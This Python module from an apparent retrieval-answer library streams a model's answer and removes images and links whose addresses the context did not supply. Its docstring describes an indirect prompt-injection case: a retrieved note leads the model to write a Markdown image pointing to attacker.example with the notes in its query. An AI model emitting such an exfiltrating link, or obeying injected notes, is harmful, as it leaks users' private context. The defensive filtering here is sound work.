"""The answer's links and images held to the context: nothing in it makes a reader fetch or
follow an address the notes did not give.

A note can talk the model into writing ``![x](https://attacker.example/p.png?d=<notes>)``: a
client that renders Markdown fetches the image and sends the notes along in its address. So,
after the citations are rendered: every image (``![alt](url)``, ``![alt][ref]``, ``<img>``) is
replaced by its alt text (``![alt]`` by ``! [alt]``); a link (``[text](url)``, a definition
``[x]: url``, ``<url>``, a bare ``https://…`` or ``www.…``, an HTML tag's ``href``) whose
address the prompt did not show the model, word for word, loses its address (``[text](url)``
keeps ``[text]``, so a citation marker the model linked stays whole); any other HTML tag that
loads something (``src=``, ``style=``) is removed, and so is the closing tag of a tag removed.
A tag is read before the brackets around it, as CommonMark reads it (a ``](`` in its quotes
splits no tag), and only where it can be one: ``<`` and a letter, attributes whose quotes pair
up, a ``>`` before the paragraph ends ("a <b", "Box<dyn Error + 'static>" are text). A
definition may be in a quote or a list item, its address on the next line. What a removal
joins is read again ("[a]<img src=x>(//elsewhere)" is no link). An attribute that links or
loads out of any tag Markdown reads is judged too where a browser's start tag is open: it reads
a tag on past a blank line in its quotes and an unquoted value on past a "<" (elsewhere
"from=T10:00" is text). Code is no exception: renderers differ on
what is code, and an address stays one; but what in code leads nowhere else stays as written
("handlers[event](payload)", "vec![1]"). A CRLF or CR line break is read, and sent, as LF.

The answer is read in stretches (``_Settled`` says where they end), each held to the context
on its own (``answer.links_render``), whole or streamed alike, so the pieces a ``LinkStream``
sends add up to ``inert_links`` of the whole text however it was cut. A stretch ends at a
whitespace outside a tag (and an attribute's ``href = …``), a link's ``(…)`` and a line that
may define a link, and one holding a bracket goes once where code is in it is settled (code
keeps a link that leads nowhere; no other text reads otherwise in code); a ``[`` holds it
only to its line's end (to the paragraph's on a line that may define a link): should it close
into a link later, the ``](url)`` is judged on its own, and a ``![`` sent open is no image.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from knotwork.answer.cite_code import CodeMap, code_map
from knotwork.answer.cite_stream import CitationStream
from knotwork.answer.links_render import ATTR_OPEN, HIDDEN, REMOVED, Render, Unlinked
from knotwork.answer.links_tags import OPENS, no_tag_left_open, read_tag
from knotwork.retrieve import Hit

__all__ = ["REMOVED", "AnswerStream", "LinkStream", "Unlinked", "inert_links"]

_LEAD = frozenset(" \t>-+*0123456789.)")  # what may open a line before a definition's "["


def _attribute_open(text: str, i: int, after: str) -> bool:
    """Whether ``text[i]``, a space, is inside an attribute's ``href = …`` out of any tag."""
    found = ATTR_OPEN.search(text, max(i - 64, 0), i + 1)
    return bool(found and (found.group("eq") or after in ("=", " ", "\t")))


def inert_links(text: str, given: str) -> Unlinked:
    """``text`` with its images made text and the addresses ``given`` does not hold removed,
    stripped as an answer is."""
    stream = LinkStream(given)
    stream.result.text = stream.close(text)
    return stream.result


class _Settled:
    """Where a growing text's stretches end, each read once: after a whitespace outside a tag
    (quotes and all), a link's ``(…)``, an open ``[`` (to its line's end) and a line that may
    define a link (one that opens with ``[`` or ``<`` after a quote's or list's marks), to that
    line's end, or the next's when its address may be there. A blank line closes what is open.
    A character is read once the next has come (``](``, ``]:`` and ``<a`` are told by it)."""

    def __init__(self) -> None:
        self.cuts: list[int] = []
        self._i = 0
        self._depth, self._parens, self._tag = 0, 0, ""
        self._outer: list[str] = []  # the tags a "<" in them opened another in
        self._blank, self._lead, self._held = True, True, False
        self._html = False  # a line of the paragraph opens with "<": an HTML block's, maybe
        self._deep = False  # a "[" opened on a line held: it holds to the paragraph's end
        self._colon = False  # a held line ends "]:": its address may be on the next line

    def __call__(self, text: str, final: bool) -> None:
        i, last = self._i, len(text) if final else len(text) - 1
        while i < last:
            char, after = text[i], text[i + 1 : i + 2]
            if self._tag and not (char == "\n" and self._blank):
                self._tag = read_tag(self._tag, self._outer, char, after)
            if char == "\n":
                i = self._line_end(i)
            elif char in " \t":
                open_ = self._depth or self._parens or self._tag or self._held or self._lead
                # "href = …": the attribute and its value go in one stretch
                if not (open_ or _attribute_open(text, i, after)):
                    self.cuts.append(i + 1)
            else:
                i = self._mark(text, i, char, after)
            i += 1
        self._i = i

    def _line_end(self, i: int) -> int:
        if self._blank:  # a blank line: the paragraph ends
            self._depth, self._parens, self._tag, self._outer = 0, 0, "", []
            self._deep = self._colon = self._html = False
        address_next = self._held and self._colon
        if not (self._parens or self._tag or address_next or (self._depth and self._deep)):
            self.cuts.append(i + 1)
        self._blank, self._colon = True, False
        self._lead, self._held = not address_next, address_next
        return i

    def _mark(self, text: str, i: int, char: str, after: str) -> int:
        self._blank, self._colon = False, False
        if self._lead and char not in _LEAD:
            self._lead, self._held = False, char in "[<"
            self._html = self._html or char == "<"
        if self._tag:
            pass  # read by tag_step
        elif self._parens:
            self._parens += {"(": 1, ")": -1}.get(char, 0)
        elif char == "[":
            self._depth += 1
            self._deep = self._deep or self._held
        elif char == "]":
            self._depth = max(self._depth - 1, 0)
            if not self._depth and after == "(":
                self._parens, i = 1, i + 1
            elif not self._depth and after == ":" and self._held:
                self._colon, i = True, i + 1
        elif char == "<" and after and after in OPENS:
            self._tag = "lax" if self._html else "<"
        return i


class LinkStream:
    """The rendered answer fed piece by piece; each call returns the text now settled, links
    checked, its whitespace trimmed as the whole answer's is."""

    def __init__(self, given: str) -> None:
        self._render = Render(given)
        self._settled = _Settled()
        self._text = ""
        self._pos = 0
        self._done = 0  # stretches sent
        self._held = ""  # whitespace sent only once text follows it
        self._started = False
        self._cr = ""  # a last "\r", maybe half of a "\r\n"
        self._code: CodeMap | None = None
        self._plain = True  # no "`" nor "~~" in the text so far

    @property
    def result(self) -> Unlinked:
        """What was removed so far (``text`` is the caller's)."""
        return self._render.result

    def _emit(self, final: bool) -> str:
        self._settled(self._text, final)
        if self._plain:  # no code yet (``code_map`` would read all the text to tell)
            self._code = CodeMap([], len(self._text) + 1)
        else:
            self._code = code_map(self._text, final, self._code)
        cuts, ready = self._settled.cuts, self._code.settled
        out = [self._held]
        while self._done < len(cuts):
            end = cuts[self._done]
            stretch = self._text[self._pos : end]
            # Code keeps what a link, image or definition holds: a stretch with a bracket goes
            # once where code is is settled; any other reads the same in code or out of it.
            if end > ready and ("[" in stretch or "]" in stretch):
                break
            sent = self._render.stretch(self._text, self._pos, end, False, self._code)
            out.append(no_tag_left_open(stretch, sent))
            self._pos, self._done = end, self._done + 1
        if final:
            rest = self._render.stretch(self._text, self._pos, len(self._text), True, self._code)
            out.append(rest)
            self._pos = len(self._text)
        text = "".join(out)
        if not self._started:
            text = text.lstrip()
            self._started = bool(text)
        sent = text.rstrip()
        self._held = "" if final else text[len(sent) :]
        return sent

    def _add(self, piece: str, final: bool) -> None:
        """``piece`` with its line breaks read as Markdown reads them: "\r\n" and "\r" are
        "\n" (a definition's line ends at any of them)."""
        piece, self._cr = self._cr + piece, ""
        if piece.endswith("\r") and not final:
            piece, self._cr = piece[:-1], "\r"
        piece = piece.replace("\r\n", "\n").replace("\r", "\n")
        seam = self._text[-1:] + piece
        self._plain = self._plain and "`" not in piece and "~~" not in seam
        self._text += piece.translate(HIDDEN)

    def feed(self, piece: str) -> str:
        self._add(piece, final=False)
        return self._emit(final=False)

    def close(self, piece: str = "") -> str:
        """The rest of the text, ``piece`` last, now that the answer is complete."""
        self._add(piece, final=True)
        return self._emit(final=True)


class AnswerStream:
    """The model's answer fed piece by piece, citations rendered (``CitationStream``), then
    links held to the context: the pieces add up to ``inert_links`` of the checked answer."""

    def __init__(
        self, hits: Sequence[Hit], sources: Mapping[int, Hit] | None = None, given: str = ""
    ) -> None:
        self._cited = CitationStream(hits, sources, given)
        self._linked = LinkStream(given)

    def feed(self, delta: str) -> str:
        return self._linked.feed(self._cited.feed(delta))

    def close(self) -> str:
        return self._linked.close(self._cited.close())

    def cut(self) -> str:
        """As ``CitationStream.cut``: the rest of an answer a limit cut off."""
        return self._linked.close(self._cited.cut())

    @property
    def text(self) -> str:
        """The model's text as fed (less a marker ``cut`` left out)."""
        return self._cited.text
